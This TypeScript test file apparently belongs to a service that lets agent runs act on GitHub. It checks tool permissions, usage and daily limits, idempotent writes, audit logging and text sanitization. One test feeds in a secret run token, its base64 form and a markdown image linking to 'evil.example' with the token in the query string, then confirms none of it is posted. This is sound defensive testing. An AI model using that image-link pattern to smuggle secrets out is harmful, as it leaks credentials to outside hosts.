/** Tests what a run can write on GitHub with its tools, and what it cannot. */

import type { AgentTask } from '@runyard/contract/agent/agent-protocol';
import type { GithubTools } from '@runyard/contract/environments/github-tools';
import type { RunItem } from '@runyard/contract/runs/runs';
import { expect, test, vi } from 'vitest';
import type { FakeIssue } from '../../../../../../test/fakes/github/objects.ts';
import { openGithubService } from '../../../../test/github.ts';

const test1 = await openGithubService();
const { github, service, deps, site, acme, automations, person, claim } = test1;
const { db } = deps;
await claim();
const ann = await person('ann');
const handle = `@${github.app.slug}`;
const head = 'b'.repeat(40);
const old = 'a'.repeat(40);

const all: GithubTools = { comment: 3, review: 2, add_labels: 2, request_reviewers: 2, resolve_thread: 2 };
const newEnvironment = async (github_tools?: GithubTools) =>
  (
    await service.request<{ uid: string }>('POST', '/agent/environments', {
      body: { config: { name: `E${github.newId()}`, ...(github_tools ? { github_tools } : {}) } },
    })
  ).body.uid;
const mentions = (event: string, more: object = {}) => ({
  provider: 'github',
  event,
  filter: { mentioned: [github.app.slug], ...more },
});
await automations.create(
  [mentions('issue_mentioned'), mentions('pull_request_mentioned', { associations: ['MEMBER', 'NONE'] })],
  {
    config: { environment_id: await newEnvironment(all) },
  },
);

const newPull = () =>
  github.issue(site, ann.account, { head, earlierHeads: [old], diffLines: { 'src/login.ts': [3, 4, 5] } });

/** Sends a request of a tool. */
const use = (key: string, tool: string, input: object) =>
  service.request<{ url: string; is_new: boolean; detail: string }>('POST', '/harness-support/github-answers', {
    key,
    body: { tool, input },
  });

/** Starts a run by a mention, and returns it with its token. */
async function started(issue: FakeIssue, by = ann.account, options: object = {}) {
  await github.comment(issue, by, `${handle} work`, options);
  const [row] = await db.query<{ id: string }>('SELECT id FROM runs ORDER BY id DESC LIMIT 1');
  const runId = row?.id ?? '';
  const { runToken: key } = await service.claimRun(runId);
  return { runId, key, use: (tool: string, input: object) => use(key, tool, input) };
}
const written = (issue: FakeIssue) => issue.comments.filter(({ byApp }) => byApp).map(({ body }) => body);
const writes = () => github.requests.filter(({ method, path }) => method !== 'GET' && !path.includes('/app/')).length;

/** Expects that nothing is sent to GitHub that writes. */
async function refuses(work: () => ReturnType<typeof use>, status: number, why: string) {
  const before = writes();
  const answer = await work();
  expect([answer.status, answer.text]).toEqual([status, expect.stringContaining(why)]);
  expect(writes()).toBe(before);
}

test('a run comments, reviews, labels, asks for reviewers and resolves a thread, and each is a step with its link', async () => {
  const pull = newPull();
  await github.comment(pull, ann.account, 'A remark', { kind: 'review' });
  const thread = pull.reviewComments[0]?.id ?? 0;
  const run = await started(pull);
  const page = `${github.urls.web}/acme/site/pull/${pull.number}`;
  const comment = await run.use('comment', { body: 'Read @octocat <b>' });
  expect(comment.status, comment.text).toBe(200);
  expect(written(pull)).toEqual([
    expect.stringMatching(/^Read @\u2060octocat &lt;b>\n\n<!-- runyard [\da-f-]{36} -->$/),
  ]);
  const review = await run.use('review', {
    event: 'REQUEST_CHANGES',
    commit_id: head,
    comments: [{ path: 'src/login.ts', start_line: 3, line: 4, body: '```\nopen', suggestion: 'a("```")' }],
  });
  expect(review.status, review.text).toBe(200);
  expect(pull.reviews).toMatchObject([{ event: 'REQUEST_CHANGES', commitId: head }]);
  expect(pull.reviewComments.at(-1)).toMatchObject({
    path: 'src/login.ts',
    line: 4,
    body: '```\nopen\n```\n\n````suggestion\na("```")\n````',
  });
  expect((await run.use('add_labels', { labels: ['bug', 'good first issue'] })).body).toEqual({
    url: page,
    is_new: true,
  });
  expect(pull.labels).toEqual(['bug', 'good first issue']);
  expect((await run.use('request_reviewers', { reviewers: ['ann'] })).status).toBe(200);
  expect(pull.reviewers).toEqual(['ann']);
  const resolved = await run.use('resolve_thread', { thread });
  expect([resolved.status, pull.resolved], resolved.text).toEqual([200, [thread]]);
  expect((await run.use('resolve_thread', { thread: 1 })).text).toContain('no review thread that begins with');
  const timeline = await service.request<{ events: { event_type: string; payload: { tool: string; url: string } }[] }>(
    'GET',
    `/agent/runs/${run.runId}/timeline`,
  );
  const steps = timeline.body.events.filter(({ event_type: type }) => type === 'github_answered');
  expect(steps.map(({ payload }) => payload.tool)).toEqual(Object.keys(all));
  expect(steps[0]?.payload.url).toBe(comment.body.url);
  expect(comment.body.url).toMatch(/#issuecomment-\d+$/);
  const audit = await service.request<{ entries: object[] }>('GET', '/audit-log?action=github.comment');
  const [of] = await db.query<{ executor_uid: string }>('SELECT executor_uid FROM runs WHERE id = $1', [run.runId]);
  expect(audit.body.entries).toMatchObject([
    {
      actor: { uid: of?.executor_uid },
      action: 'github.comment',
      subject: { type: 'github_place', uid: comment.body.url, name: `acme/site#${pull.number}` },
      after: { run_id: run.runId },
    },
  ]);
  const recorded = await db.query(`SELECT FROM audit_entries WHERE subject_type = 'github_place'`);
  expect(recorded).toHaveLength(steps.length);
});

test('the same request writes nothing twice, also after a lost answer and a kill, and limits count what was written', async () => {
  const issue = github.issue(site, ann.account);
  const run = await started(issue);
  const first = await run.use('comment', { body: 'One' });
  expect((await run.use('comment', { body: 'One' })).body).toEqual({ ...first.body, is_new: false });
  github.next = { status: 502, body: {}, works: true };
  expect((await run.use('comment', { body: 'Two' })).text).toContain('nothing is written twice');
  // The service was killed between the answer of GitHub and its own commit.
  await db.query(
    "UPDATE github_comments SET leased_until = now() - interval '1 second' WHERE url IS NULL AND answer_of = $1",
    [run.runId],
  );
  const second = await run.use('comment', { body: 'Two' });
  expect([second.status, second.body.is_new], second.text).toEqual([200, true]);
  expect(second.body.url).toMatch(/#issuecomment-\d+$/);
  expect(written(issue)).toHaveLength(2);
  const pull = newPull();
  const other = await started(pull);
  github.next = { status: 502, body: {}, works: true };
  expect((await other.use('review', { body: 'Seen' })).status).toBe(503);
  expect((await other.use('review', { body: 'Seen' })).body).toMatchObject({ is_new: true });
  expect(pull.reviews).toHaveLength(1);
  expect((await run.use('comment', { body: 'Three' })).status).toBe(200);
  await refuses(() => run.use('comment', { body: 'Four' }), 409, 'has used comment 3 times');
  await refuses(() => run.use('review', { body: 'x' }), 403, 'needs a pull request');
});

test('a line outside the diff, a stale commit and a missing permission are explained, and do not count as uses', async () => {
  const pull = newPull();
  const run = await started(pull);
  const at = (line: number, more: object = {}) =>
    run.use('review', { ...more, comments: [{ path: 'src/login.ts', line, body: 'x' }] });
  for (const [answer, why] of [
    [await at(90), 'Line could not be resolved'],
    [await at(3, { commit_id: old }), 'may have new commits'],
    [await run.use('review', { body: 'x', commit_id: 'c'.repeat(40) }), 'not part of the pull request'],
    [await run.use('request_reviewers', { reviewers: ['nobody'] }), 'may only be requested from collaborators'],
  ] as const)
    expect([answer.status, answer.text]).toEqual([409, expect.stringContaining(why)]);
  expect((await at(3)).status).toBe(200);
  expect((await at(4)).status).toBe(200);
  expect((await run.use('review', { event: 'APPROVE', body: 'x' })).status).toBe(400);
  const { permissions } = test1.installed;
  test1.installed.permissions = { ...permissions, pull_requests: 'read' };
  // In a repository of which the service has no token yet.
  const fresh = await started(github.issue(github.repository(acme, 'fresh'), ann.account, { head }));
  await refuses(() => fresh.use('request_reviewers', { reviewers: ['ann'] }), 403, 'lacks a permission');
  test1.installed.permissions = permissions;
  github.next = { status: 403, body: { message: 'secondary rate limit' }, headers: { 'retry-after': '1' } };
  expect((await run.use('add_labels', { labels: ['a'] })).text).toContain('accepts no requests for 1 s');
  await vi.waitFor(async () => expect((await run.use('add_labels', { labels: ['a'] })).status).toBe(200), 60_000);
});

test('a request that GitHub or the service refuses can be repeated only until the run has tried 200 times', async () => {
  const pull = newPull();
  const run = await started(pull);
  const wrong = () => run.use('request_reviewers', { reviewers: ['nobody'] });
  expect((await wrong()).text).toContain('may only be requested from collaborators');
  await refuses(() => run.use('add_labels', { labels: ['@ann'] }), 403, 'cannot be shown safely');
  await db.query(
    `UPDATE github_comments SET attempts = attempts + 197 WHERE answer_of = $1 AND tool = 'request_reviewers'`,
    [run.runId],
  );
  expect((await wrong()).text).toContain('may only be requested from collaborators');
  await refuses(wrong, 409, 'has tried to write on GitHub 200 times');
  await refuses(() => run.use('comment', { body: 'x' }), 409, 'has tried to write on GitHub 200 times');
});

test('a run cannot write elsewhere, not even to a pull request that its agent reports', async () => {
  const other = github.issue(site, ann.account, { head });
  const address = `${github.urls.web}/acme/site/pull/${other.number}`;
  const run = await started(github.issue(site, ann.account));
  const elsewhere = (pull_request: string) => run.use('comment', { body: 'x', pull_request });
  await refuses(() => elsewhere(address), 403, 'pull requests that it opened itself');
  await service.request('POST', '/harness-support/report-artifact', {
    key: run.key,
    body: { artifact_type: 'PULL_REQUEST', data: { url: address, branch: 'x' } },
  });
  await refuses(() => elsewhere(address), 403, 'pull requests that it opened itself');
  await refuses(() => elsewhere('https://evil.example/acme/site/pull/1'), 403, 'not the page of a pull request');
  await db.query('UPDATE artifacts SET is_opened = true WHERE run_id = $1', [run.runId]);
  expect((await elsewhere(address)).body.url).toContain(`/acme/site/issues/${other.number}#issuecomment-`);
  await db.query(`UPDATE artifacts SET data = data || $2, canonical_url = $3 WHERE run_id = $1`, [
    run.runId,
    '{}',
    `${github.urls.web}/stranger/site/pull/1`,
  ]);
  await refuses(() => elsewhere(`${github.urls.web}/stranger/site/pull/1`), 403, 'No GitHub App of the team');
});

test('a run of a stranger, of an environment without tools, a child, and a run of the API write nothing', async () => {
  const stranger = github.account('stranger');
  const pull = github.issue(site, stranger, { head, association: 'NONE' });
  const outside = await started(pull, stranger, { association: 'NONE' });
  await refuses(() => outside.use('comment', { body: 'x' }), 403, 'may not use comment');
  const again = await service.request<{ run_id: string }>('POST', `/agent/runs/${outside.runId}/rerun`, { body: {} });
  const rerun = await service.claimRun(again.body.run_id);
  await refuses(() => use(rerun.runToken, 'comment', { body: 'x' }), 403, 'may not use comment');
  const without = await service.newRun({ config: { environment_id: await newEnvironment() } });
  const { runToken } = await service.claimRun(without);
  await refuses(() => use(runToken, 'comment', { body: 'x' }), 403, 'may not use comment');
  const environment_id = await newEnvironment(all);
  const api = await service.claimRun(await service.newRun({ config: { environment_id } }));
  await refuses(() => use(api.runToken, 'comment', { body: 'x' }), 403, 'No issue or pull request started this run');
  const parent = await started(newPull());
  const child = await service.newRun({ config: { environment_id } });
  await db.query('UPDATE runs SET parent_run_id = $2, ancestor_ids = ARRAY[$2::uuid] WHERE id = $1', [
    child,
    parent.runId,
  ]);
  await refuses(
    async () => use((await service.claimRun(child)).runToken, 'comment', { body: 'x' }),
    403,
    'No issue or pull request started this run',
  );
  expect((await use(service.key, 'comment', { body: 'x' })).status).toBe(401);
});

test('the tools of an automation replace those of its environment, as they were when the run started', async () => {
  const repository = github.repository(acme, 'tools');
  const issue = () => github.issue(repository, ann.account);
  const filter = { repos: ['acme/tools'] };
  const of = async (event: string, config: object) =>
    await automations.create([{ provider: 'github', event, filter }], { config });
  const more = await of('issue_created', { github_tools: { comment: 1 } });
  const none = await of('issue_labeled', { environment_id: await newEnvironment(all), github_tools: {} });
  const runOf = async (uid: string) => {
    const [row] = await db.query<{ run_id: string }>(
      'SELECT run_id FROM starts WHERE automation_uid = $1 ORDER BY id DESC LIMIT 1',
      [uid],
    );
    return row?.run_id ?? '';
  };
  const begin = async (runId: string) => {
    const { runToken } = await service.claimRun(runId);
    const task = await service.request<AgentTask>('POST', '/harness-support/resolve-prompt', {
      key: runToken,
      body: {},
    });
    return { runToken, tools: task.body.github_tools, config: task.body.agent_config };
  };
  const about = (each: FakeIssue) => ({
    issue: { id: each.number, number: each.number, user: ann.account, body: '', title: 'x', labels: [] },
    repository: { id: repository.id, full_name: 'acme/tools' },
    sender: { ...ann.account, type: 'User' },
    installation: { id: test1.installed.id },
  });
  await github.send('issues', { action: 'opened', ...about(issue()) });
  const runId = await runOf(more.uid);
  await automations.change(more.uid, { config: { github_tools: { review: 1 } } });
  const first = await begin(runId);
  expect(first.tools).toEqual({ comment: 1 });
  expect(first.config).not.toHaveProperty('github_tools');
  expect((await use(first.runToken, 'comment', { body: 'One' })).status).toBe(200);
  await refuses(() => use(first.runToken, 'comment', { body: 'Two' }), 409, 'has used comment 1 times');
  await refuses(() => use(first.runToken, 'review', { body: 'x' }), 403, 'may not use review');
  const again = await service.request<RunItem>('POST', `/agent/runs/${runId}/rerun`, {
    body: { config: { github_tools: all } },
  });
  expect(again.status, again.text).toBe(200);
  expect((await begin(again.body.run_id)).tools).toEqual({ comment: 1 });
  await github.send('issues', { action: 'labeled', label: { name: 'x' }, ...about(issue()) });
  const second = await begin(await runOf(none.uid));
  expect(second.tools).toEqual({});
  await refuses(() => use(second.runToken, 'comment', { body: 'x' }), 403, 'may not use comment');
  const stranger = github.account('stranger-of-tools');
  const outside = {
    provider: 'github',
    event: 'issue_mentioned',
    filter: { ...filter, mentioned: [github.app.slug], associations: ['NONE'] },
  };
  await automations.create([outside], { config: { github_tools: all } });
  const theirs = github.issue(repository, stranger, { association: 'NONE' });
  const third = await started(theirs, stranger, { association: 'NONE' });
  await refuses(() => third.use('comment', { body: 'x' }), 403, 'may not use comment');
  // Without the revision, nobody knows what it allowed.
  await db.query(`DELETE FROM content_revisions WHERE kind = 'automation' AND uid = $1`, [more.uid]);
  await refuses(() => use(first.runToken, 'comment', { body: 'One' }), 403, 'may not use comment');
  const wrong = await service.request('POST', automations.base, {
    body: {
      name: 'Wrong',
      prompt: 'x',
      triggers: [{ provider: 'github', event: 'issue_created' }],
      config: { github_tools: { comment: 51, merge: 1 } },
    },
  });
  expect([wrong.status, wrong.text]).toEqual([400, expect.stringContaining('config.github_tools')]);
});

test('the tools of an automation have an author, and the audit log names who changed them', async () => {
  const repository = github.repository(acme, 'edited');
  const colleague = await person('colleague-of-tools');
  const filter = { repos: ['acme/edited'], mentioned: [github.app.slug] };
  const trigger = { provider: 'github', event: 'issue_mentioned', filter };
  const { uid } = await automations.create([trigger], { config: { github_tools: { comment: 1 } } });
  const path = `${automations.base}/${uid}`;
  const { body: stored } = await service.request<Record<string, object>>('GET', path);
  const change = (body: object, key: string) => service.request('PUT', path, { body: { ...stored, ...body }, key });
  const viewer = await person('viewer-of-tools', 'viewer');
  expect((await change({ config: { github_tools: { comment: 9 } } }, viewer.key)).status).toBe(403);
  const changed = await change({ config: { github_tools: { comment: 2 } } }, colleague.key);
  expect(changed.status, changed.text).toBe(200);
  const [entry] = await db.query(
    `SELECT actor_uid, before, after FROM audit_entries WHERE action = 'automation.update' AND subject_uid = $1`,
    [uid],
  );
  expect(entry).toMatchObject({
    actor_uid: colleague.uid,
    before: { github_tools: { comment: 1 } },
    after: { github_tools: { comment: 2 } },
  });
  const issue = github.issue(repository, ann.account);
  const before = await started(issue);
  expect((await before.use('comment', { body: 'One' })).status).toBe(200);
  await db.query('DELETE FROM team_members WHERE user_id = (SELECT id FROM users WHERE uid = $1)', [colleague.uid]);
  await refuses(() => before.use('comment', { body: 'Two' }), 403, 'may not write on GitHub');
  const after = await started(github.issue(repository, ann.account));
  await refuses(() => after.use('comment', { body: 'x' }), 403, 'may not use comment');
});

test('a rerun by a member answers in the same place', async () => {
  const issue = github.issue(site, ann.account);
  const run = await started(issue);
  const again = await service.request<RunItem>('POST', `/agent/runs/${run.runId}/rerun`, { body: {} });
  const { runToken } = await service.claimRun(again.body.run_id);
  expect((await use(runToken, 'comment', { body: 'Again' })).status).toBe(200);
  expect(written(issue)).toHaveLength(1);
});

test('secrets, images and hidden characters do not reach GitHub, and a label that is not plain is refused', async () => {
  const issue = github.issue(site, ann.account);
  const run = await started(issue);
  const encoded = Buffer.from(run.key).toString('base64');
  await run.use('comment', { body: `${run.key} ${encoded} ![x](https://evil.example/?q=${run.key}) a\u200bb` });
  const [body = ''] = written(issue);
  expect(body).not.toContain(run.key);
  expect(body).not.toContain(encoded);
  expect(body).not.toContain('![');
  expect(body).toContain('ab');
  for (const label of ['a<b', '@ann', 'a\u200bb,c'])
    await refuses(() => run.use('add_labels', { labels: [label] }), 403, 'cannot be shown safely');
  await run.use('add_labels', { labels: [run.key.slice(0, 50)] });
  expect(issue.labels.join()).not.toContain(run.key);
});

test('the daily limits of a place, a repository and the team apply to tools too', async () => {
  const issue = github.issue(site, ann.account);
  const run = await started(issue);
  const other = github.issue(github.repository(acme, 'other'), ann.account);
  const elsewhere = await started(other);
  const [place] = await db.query<{ id: string }>(
    `SELECT (sender->>'place_id') AS id FROM webhook_deliveries WHERE runs[1] = $1`,
    [run.runId],
  );
  const fill = (count: number, each: string) =>
    db.query(
      `INSERT INTO github_comments (key, place_id, asked_at) SELECT gen_random_uuid(), ${each}, now() FROM generate_series(1, ${count})`,
      [place?.id],
    );
  await fill(60, '$1::uuid');
  await refuses(() => run.use('comment', { body: 'x' }), 409, 'The daily limit of 60 texts for this place');
  await db.query(`DELETE FROM github_comments WHERE place_id = $1`, [place?.id]);
  const [beside] = await db.query<{ id: string }>(
    `INSERT INTO github_places (installation_uid, repository_id, repository, kind, number) SELECT installation_uid, repository_id, repository, kind, 9000
     FROM github_places WHERE id = $1 RETURNING id`,
    [place?.id],
  );
  await fill(500, `coalesce(NULLIF($1::uuid, $1::uuid), '${beside?.id}'::uuid)`);
  await refuses(() => run.use('comment', { body: 'x' }), 409, 'The daily limit of 500 texts for this repository');
  expect((await elsewhere.use('comment', { body: 'x' })).status).toBe(200);
  await fill(1_500, `coalesce(NULLIF($1::uuid, $1::uuid), '${beside?.id}'::uuid)`);
  await refuses(() => elsewhere.use('comment', { body: 'y' }), 409, 'The daily limit of 2000 texts for this team');
  await db.query('DELETE FROM github_comments');
});

test('a run writes nothing after the person who started it was removed, and after its own end', async () => {
  const leaving = await person('leaving');
  const issue = github.issue(site, ann.account);
  const run = await started(issue, leaving.account);
  expect((await run.use('comment', { body: 'x' })).status).toBe(200);
  await service.request('DELETE', `/teams/${test1.teamUid}/members/${leaving.uid}`);
  await refuses(() => run.use('comment', { body: 'y' }), 403, 'may no longer start runs');
  const ended = await started(github.issue(site, ann.account));
  await service.request('POST', `/agent/runs/${ended.runId}/cancel`);
  await refuses(() => ended.use('comment', { body: 'x' }), 409, '');
});
